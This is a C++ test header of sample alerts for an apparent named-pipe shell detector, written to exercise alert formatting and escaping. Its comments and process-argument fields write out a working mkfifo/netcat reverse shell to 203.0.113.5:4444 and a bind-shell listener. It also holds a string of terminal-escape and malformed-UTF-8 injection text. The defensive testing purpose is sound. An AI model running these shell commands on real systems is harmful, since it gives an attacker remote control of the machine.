// SPDX-License-Identifier: Apache-2.0
// Alerts built by hand, one of each kind that the forms have to write.
#pragma once

#include <string>
#include <vector>

#include "alert/alert.hpp"

namespace pipehound::alert::sample {

/// Milliseconds after 2026-11-20 03:12:45 UTC.
inline event::Time at(int milliseconds) {
    using namespace std::chrono;
    return sys_days{year{2026} / November / 20} + hours{3} + minutes{12} + seconds{45} +
           std::chrono::milliseconds{milliseconds};
}

inline User www_data() { return {event::Uid{33}, "www-data"}; }

inline Member member(Role role, int pid, int ppid, std::string executable,
                     std::vector<std::string> args) {
    Member made;
    made.role = role;
    made.pid = event::Pid{pid};
    made.ppid = event::Pid{ppid};
    made.entity_id = "entity-" + std::to_string(pid);
    made.executable = std::move(executable);
    made.args = std::move(args);
    made.cwd = "/var/www";
    made.user = www_data();
    made.login_user = {event::Uid{1000}, "alice"};
    made.session = event::Session{7};
    made.tty = "pts0";
    made.started = at(pid % 100);
    return made;
}

inline Rule core_rule() {
    return {
        "6f0c5f2e-0f3b-4a7e-9a55-6d3a1f1c2b7d",
        "Shell driven over the network through a named pipe",
        "A shell reads commands from, or answers into, a FIFO whose other end reaches the network.",
        {"https://attack.mitre.org/techniques/T1059/004/",
         "https://gtfobins.github.io/gtfobins/nc/"}};
}

/// rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 >/tmp/f, the circle
/// closed.
inline Alert reverse_shell() {
    Alert alert;
    alert.level = event::Level::critical;
    alert.confidence = 95;
    alert.risk_score = 99;
    alert.rule = core_rule();
    alert.techniques = {
        {"T1059.004", "Unix Shell", "TA0002", "Execution"},
        {"T1095", "Non-Application Layer Protocol", "TA0011", "Command and Control"}};
    alert.reason =
        "What 203.0.113.5 sends reaches the shell, and what the shell prints goes back through "
        "/tmp/f.";
    alert.incident = "3e2c7a10f4d94d5c";
    alert.before = event::Level::high;
    alert.confirmed_live = true;
    alert.host = "web1";
    alert.fifos = {{"/tmp/f", {8ULL << 32U | 1U, 131077}, at(3), true}};
    alert.remote = Remote{{"203.0.113.5", 4444}, Remote::Direction::outbound};
    alert.members = {
        member(Role::ancestor, 4200, 1, "/usr/bin/bash",
               {"bash", "-c", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i"}),
        member(Role::relay, 4242, 4200, "/usr/bin/cat", {"cat", "/tmp/f"}),
        member(Role::shell, 4243, 4200, "/usr/bin/dash", {"sh", "-i"}),
        member(Role::command, 4250, 4243, "/usr/bin/id", {"id"}),
        member(Role::network, 4244, 4200, "/usr/bin/nc.openbsd", {"nc", "203.0.113.5", "4444"})};
    for (const std::size_t child : {1U, 2U, 4U}) alert.members[child].parent = 0;
    alert.members[3].parent = 2;
    alert.evidence = {
        {at(3), 29870, "fifo-created", event::Pid{4241}, "made /tmp/f"},
        {at(5), 29874, "fifo-opened", event::Pid{4242}, "opened /tmp/f for reading (fd 3)"},
        {at(9), 29881, "socket-connected", event::Pid{4244}, "connected to 203.0.113.5:4444"}};
    alert.first = at(3);
    alert.last = at(9);
    return alert;
}

/// The same way round as the attacker's own nc listening here, and he came.
inline Alert bind_shell() {
    Alert alert = reverse_shell();
    alert.before.reset();
    alert.confirmed_live = false;
    alert.level = event::Level::high;
    alert.risk_score = 73;
    alert.host.clear();
    alert.reason =
        "What 198.51.100.7 sends reaches the shell, and what the shell prints goes back through "
        "/tmp/f.";
    alert.remote = Remote{{"198.51.100.7", 51514}, Remote::Direction::inbound};
    alert.members[4].args = {"nc", "-l", "-p", "4444"};
    alert.fifos[0].unlinked = false;
    alert.evidence[2] = {at(9), 29881, "socket-accepted", event::Pid{4244},
                         "accepted 198.51.100.7:51514"};
    return alert;
}

inline Alert ipv6_shell() {
    Alert alert = reverse_shell();
    alert.reason =
        "What 2001:db8::5 sends reaches the shell, and what the shell prints goes back through "
        "/tmp/f.";
    alert.remote = Remote{{"2001:db8::5", 443}, Remote::Direction::outbound};
    return alert;
}

/// A FIFO drives a shell, nothing reaches the network yet; little is known: no names, no terminal,
/// no creation.
inline Alert local_shell() {
    Alert alert;
    alert.level = event::Level::low;
    alert.confidence = 30;
    alert.risk_score = 21;
    alert.rule = core_rule();
    alert.rule.references.clear();
    alert.reason = "A shell takes its commands from a FIFO.";
    alert.incident = "77aa01";
    alert.fifos = {{"/run/jobs", {0, 5}, std::nullopt, false}};
    Member shell;
    shell.role = Role::shell;
    shell.pid = event::Pid{99};
    shell.ppid = event::Pid{98};
    shell.user.id = event::Uid{1000};
    alert.members = {shell};
    alert.first = alert.last = at(0);
    return alert;
}

/// What breaks terminals, log lines and JSON: a newline, ESC, BEL, DEL, a one-byte and a UTF-8 C1
/// CSI, right-to-left override, quotes, a backslash, invalid and truncated UTF-8.
inline std::string hostile_text() {
    return "a\nCRITICAL forged\r\x1b[2J\x07\x7f\x9b"
           "1m\xc2\x9b"
           "2J\xe2\x80\xae'\"\\ \xff\xc3";
}

/// Every text that may come from outside is hostile.
inline Alert hostile() {
    Alert alert = reverse_shell();
    const auto text = hostile_text();
    alert.host = alert.reason = alert.incident = text;
    alert.fifos[0].path = "/tmp/" + text;
    alert.remote->endpoint.address = text;
    alert.rule = {text, text, text, {text, text}};
    alert.techniques = {{text, text, text, text}};
    for (auto& member : alert.members) {
        member.executable = "/tmp/" + text;
        member.args = {text, "", text};
        member.entity_id = member.cwd = member.tty = member.user.name = member.login_user.name =
            text;
    }
    for (auto& evidence : alert.evidence) evidence.action = evidence.summary = text;
    return alert;
}

/// An alert whose document is far larger than a journal field may be.
inline Alert huge() {
    Alert alert = hostile();
    for (int count = 0; count < 500; ++count) {
        alert.members.insert(alert.members.begin() + 1, alert.members[1]);
        alert.evidence.push_back(alert.evidence[0]);
    }
    for (auto& member : alert.members) {
        member.parent.reset();
        member.args.assign(50, std::string(400, '\x01'));
    }
    return alert;
}

/// What a loaded rule found.
inline Alert rule_find() {
    Alert alert;
    alert.level = event::Level::medium;
    alert.confidence = 80;
    alert.risk_score = 47;
    alert.rule = {"0d1b4c53-3b0c-4a52-8f0a-1d1f2c9c3f11",
                  "FIFO made in a shared folder",
                  "Somebody made a FIFO where everybody may write.",
                  {"https://man7.org/linux/man-pages/man7/fifo.7.html"},
                  "## Triage\n\n1. Who is it?\n2. End it.\x1b[2J\n",
                  "somebody",
                  "eql"};
    alert.reason = "made the FIFO /tmp/f";
    alert.incident = "phr-0123456789abcdef";
    alert.file = File{"/tmp/f", "fifo"};
    alert.members = {member(Role::subject, 4242, 1, "/usr/bin/mkfifo", {"mkfifo", "/tmp/f"})};
    alert.evidence = {{at(0), 101, "fifo-created", event::Pid{4242}, "made the FIFO /tmp/f"}};
    alert.first = alert.last = at(0);
    return alert;
}

/// The same, over exported documents.
inline Alert document_find() {
    auto alert = rule_find();
    alert.file.reset();
    alert.members.clear();
    alert.evidence = {{at(0), 1, "exec", event::Pid{}, "mkfifo /tmp/f", "AbC-1\n2"},
                      {at(5), 2, "exec", event::Pid{}, "nc 203.0.113.5 4444", "2"}};
    alert.last = at(5);
    return alert;
}

struct Named {
    std::string name;
    Alert alert;
};

inline std::vector<Named> all() {
    return {{"reverse_shell", reverse_shell()},
            {"bind_shell", bind_shell()},
            {"ipv6_shell", ipv6_shell()},
            {"local_shell", local_shell()},
            {"hostile", hostile()},
            {"rule_find", rule_find()},
            {"document_find", document_find()}};
}

}  // namespace pipehound::alert::sample
